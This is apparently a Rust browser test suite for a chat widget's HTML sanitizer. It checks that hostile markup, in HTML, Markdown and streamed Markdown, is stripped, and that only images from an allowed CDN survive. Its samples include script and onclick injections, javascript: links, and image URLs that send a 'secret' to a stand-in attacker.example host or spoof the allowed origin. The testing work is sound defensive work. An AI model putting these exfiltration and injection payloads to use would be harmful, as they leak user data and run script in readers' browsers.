//! The HTML sanitizer in a real Chromium: the shared hostile inputs come out obeying the markup
//! policy (as HTML answers, as Markdown, and as Markdown streamed prefix by prefix), ordinary
//! formatting survives, images load only from the allowed origins (others show their alt
//! text), sanitizing is stable (sanitizing the output again changes nothing, so re-parsing
//! can't mutate it), and elements kept as parsed give exactly what a full rebuild gives.
#![cfg(target_arch = "wasm32")]
#![allow(clippy::unwrap_used)] // tests: a panic is the failure report

use lexstream_client::sanitize;
use lexstream_protocol::render::audit::violations;
use lexstream_protocol::render::policy::ImageOrigins;
use lexstream_protocol::render::{StreamingMarkdown, render_markdown};
use wasm_bindgen_test::*;

wasm_bindgen_test_configure!(run_in_browser);

fn hostile_inputs() -> Vec<String> {
    serde_json::from_str(include_str!("../../protocol/tests/fixtures/hostile_markup.json")).unwrap()
}

/// The origin this page's owner allows images from: hostile inputs try to pass for it.
fn cdn() -> ImageOrigins {
    ImageOrigins::parse(&["https://cdn.example.com"]).unwrap()
}

/// Sanitizes as a widget configured with [`cdn`] does.
fn sanitize_html(markup: &str) -> String {
    sanitize::sanitize_html(markup, &cdn())
}

fn assert_obeys_policy(input: &str, output: &str) {
    let found = violations(output, &cdn());
    assert!(found.is_empty(), "{found:?}\n input: {input}\noutput: {output}");
    assert_eq!(sanitize_html(output), output, "not stable\n input: {input}");
}

/// Elements kept as the parser made them change nothing: for every hostile input (as HTML, as
/// Markdown, and each piece of it streamed) and ordinary answers, the sanitized markup is exactly
/// what rebuilding every element gives.
#[wasm_bindgen_test]
fn keeping_parsed_elements_gives_what_the_rebuild_gives() {
    let same = |markup: &str| {
        assert_eq!(sanitize_html(markup), sanitize::rebuilt_html(markup, &cdn()), "input: {markup}");
    };
    let ordinary = [
        "<p>Plain <b>bold</b>, <i>it</i>, <u>u</u>, <sub>2</sub><sup>3</sup> and <code>x</code>.</p>",
        "<ul><li>one</li><li><p>two</p><ol start=\"3\"><li>three</li></ol></li></ul><hr><br>",
        "<table><thead><tr><th align=\"left\">a</th></tr></thead><tbody><tr><td>b</td></tr></tbody></table>",
        "<div><span>wrapped</span> <a href=\"https://example.com\">link</a><a>no href</a></div>",
        "<blockquote><pre><code class=\"language-rust\">fn main() {}</code></pre></blockquote><!-- note -->",
        "<p is=\"x-widget\">customized</p><img src=\"https://cdn.example.com/a.png\" alt=\"a\"><img>",
    ];
    for input in hostile_inputs().iter().map(String::as_str).chain(ordinary) {
        same(input);
        same(&render_markdown(input, &cdn()));
        let mut renderer = StreamingMarkdown::new(cdn());
        let ends = input.char_indices().map(|(at, _)| at).skip(1).chain([input.len()]);
        for end in ends {
            let update = renderer.update(&input[..end]);
            same(&update.completed);
            update.tail.as_deref().map(same);
        }
    }
}

#[wasm_bindgen_test]
fn hostile_html_answers_come_out_harmless() {
    let inputs = hostile_inputs();
    assert!(inputs.len() >= 30, "the fixture lost its inputs");
    for input in &inputs {
        assert_obeys_policy(input, &sanitize_html(input));
    }
}

#[wasm_bindgen_test]
fn hostile_markdown_answers_come_out_harmless() {
    for input in hostile_inputs() {
        assert_obeys_policy(&input, &sanitize_html(&render_markdown(&input, &cdn())));
    }
}

/// Every prefix of each hostile input, streamed: each completed block and each redrawn tail,
/// sanitized as the widget shows them, obeys the policy.
#[wasm_bindgen_test]
fn hostile_markdown_streamed_prefix_by_prefix_comes_out_harmless() {
    for input in hostile_inputs() {
        let mut renderer = StreamingMarkdown::new(cdn());
        let ends = input.char_indices().map(|(at, _)| at).skip(1).chain([input.len()]);
        for end in ends {
            let update = renderer.update(&input[..end]);
            assert_obeys_policy(&input[..end], &sanitize_html(&update.completed));
            if let Some(tail) = update.tail {
                assert_obeys_policy(&input[..end], &sanitize_html(&tail));
            }
        }
        let finished = renderer.finish(&input);
        assert_obeys_policy(&input, &sanitize_html(&finished.completed));
    }
}

#[wasm_bindgen_test]
fn allowed_formatting_is_kept_and_links_open_in_a_new_tab() {
    let html = sanitize_html(
        "<div><p class=\"x\">Hello <b>there</b><br><a href=\"https://x.example\" target=\"_self\" rel=\"opener\">x</a></p></div>",
    );
    assert_eq!(
        html,
        "<p>Hello <b>there</b><br><a href=\"https://x.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a></p>"
    );
}

#[wasm_bindgen_test]
fn unsafe_parts_go_but_the_readable_text_stays() {
    assert_eq!(sanitize_html("<p onclick=\"x()\">Hi<script>x()</script></p>"), "<p>Hi</p>");
    assert_eq!(sanitize_html("<a href=\"javascript:alert(1)\">click me</a>"), "<a>click me</a>");
    assert_eq!(sanitize_html("<form><span>Name</span><input></form>"), "Name");
    assert_eq!(
        sanitize_html("Never click javascript:alert(1) links."),
        "Never click javascript:alert(1) links."
    );
    assert_eq!(sanitize_html("<svg><text>drawn</text></svg>kept"), "kept");
}

#[wasm_bindgen_test]
fn markdown_tables_and_code_survive_the_sanitizer() {
    let html = sanitize_html(&render_markdown("| a | b |\n|---|---|\n| 1 | 2 |\n\n```\n<x>\n```", &cdn()));
    assert_eq!(
        html,
        "<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>\n</tbody></table>\n<pre><code>&lt;x&gt;\n</code></pre>\n"
    );
}

#[wasm_bindgen_test]
fn an_image_from_an_allowed_origin_is_kept() {
    assert_eq!(
        sanitize_html("<img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\" onerror=\"x()\">"),
        "<img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\">"
    );
    let markdown = render_markdown("![a cat](https://cdn.example.com/cat.png)", &cdn());
    assert_eq!(
        sanitize_html(&markdown),
        "<p><img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\"></p>\n"
    );
}

#[wasm_bindgen_test]
fn hostile_image_urls_are_shown_as_their_alt_text() {
    for src in [
        "/account/logout",
        "account/logout",
        "//cdn.example.com/cat.png",
        "https://attacker.example/collect?q=secret",
        "https://cdn.example.com@attacker.example/cat.png",
        "https://attacker.example\\@cdn.example.com/cat.png",
        "https:cdn.example.com/cat.png",
        "&#104;ttps://attacker.example/cat.png",
        "https://cdn.example.com.attacker.example/cat.png",
        "data:image/png;base64,AA==",
    ] {
        let html = sanitize_html(&format!("<p>See <img src=\"{src}\" alt=\"the chart\">.</p>"));
        assert_eq!(html, "<p>See the chart.</p>", "{src}");
    }
    assert_eq!(sanitize_html("<p>No source <img alt=\"here\"></p>"), "<p>No source here</p>");
}

#[wasm_bindgen_test]
fn without_allowed_origins_no_image_survives() {
    let html = sanitize::sanitize_html(
        "<img src=\"https://cdn.example.com/cat.png\" alt=\"a cat\">",
        &ImageOrigins::none(),
    );
    assert_eq!(html, "a cat");
}
